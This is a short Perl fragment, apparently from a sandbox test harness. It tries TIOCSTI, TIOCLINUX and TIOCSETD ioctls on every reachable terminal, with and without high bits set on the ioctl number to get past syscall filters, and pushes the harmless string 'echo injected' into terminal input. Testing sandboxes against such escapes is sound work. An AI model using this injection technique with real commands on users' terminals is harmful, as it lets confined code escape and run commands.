# TIOCSTI, TIOCLINUX, TIOCSETD, with and without high bits, on every terminal in reach.
my @fd = (0, 1, 2);
for my $p ('/dev/tty', '/dev/pts/0', '/dev/ptmx', map("/dev/pts/$_", 1 .. 4), '/dev/console', '/dev/tty0') {
    my $fd = sys('openat', -100, $p, 2, 0); push @fd, $fd if $fd >= 0; }
for my $fd (@fd) { for my $c (split //, "echo injected\n") { for my $high (0, 1 << 32, 0xffffffff << 32) {
    try("push/$fd/$high", 'ioctl', $fd, 0x5412 | $high, "$c\0");
    try("linux/$fd/$high", 'ioctl', $fd, 0x541c | $high, "\x02\0");
    try("line/$fd/$high", 'ioctl', $fd, 0x5423 | $high, pack('i', 2)); } } }
